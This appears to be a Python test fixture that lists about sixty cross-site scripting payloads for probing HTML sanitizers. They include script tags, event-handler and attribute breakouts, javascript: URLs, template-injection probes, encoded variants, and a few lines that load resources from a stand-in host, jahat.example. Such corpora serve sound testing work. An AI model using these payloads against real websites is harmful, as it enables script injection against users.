"""Sixty texts that run where a page forgets that they are texts. Each calls alert(1) or leaves a mark where it ran."""

_PLAIN = """
<script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<script src=data:text/javascript,alert(1)></script>
"><script>alert(1)</script>
'><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</script><script>alert(1)</script>
</style><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)">
"><img src=x onerror=alert(1)>
<img/src=x/onerror=alert(1)>
<img src="x` `<script>alert(1)</script>"` `>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)/>#x"/></svg>
<svg><foreignObject><body onload=alert(1)></foreignObject></svg>
<math><mtext><img src=x onerror=alert(1)></mtext></math>
<math href="javascript:alert(1)">x</math>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<body onload=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)></textarea>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<a href="javascript:alert(1)">x</a>
<a href="java&#115;cript:alert(1)">x</a>
<form action="javascript:alert(1)"><button>x</button></form>
<button formaction="javascript:alert(1)">x</button>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<base href="https://jahat.example/">
<link rel=stylesheet href="https://jahat.example/x.css">
<style>@import "https://jahat.example/x.css";*{background:url(javascript:alert(1))}</style>
<div style="background:url(https://jahat.example/x)">x</div>
" onmouseover="alert(1)
' onmouseover='alert(1)
" autofocus onfocus="alert(1)" x="
`onmouseover=alert(1)`
{{ 7|add:7 }}{% load static %}{% debug %}
${alert(1)}#{alert(1)}<%= alert(1) %>
[x](javascript:alert(1))
![x](x"onerror="alert(1))
<![CDATA[<script>alert(1)</script>]]>
&lt;script&gt;alert(1)&lt;/script&gt;
\\u003cscript\\u003ealert(1)\\u003c/script\\u003e
%3Cscript%3Ealert(1)%3C/script%3E
"""
TEXTS = [
    *_PLAIN.strip().splitlines(),
    "\u202egnp.tpircs\u202c<script>alert(1)</script>",
    "\u2028<script>alert(1)</script>\u2029",
]
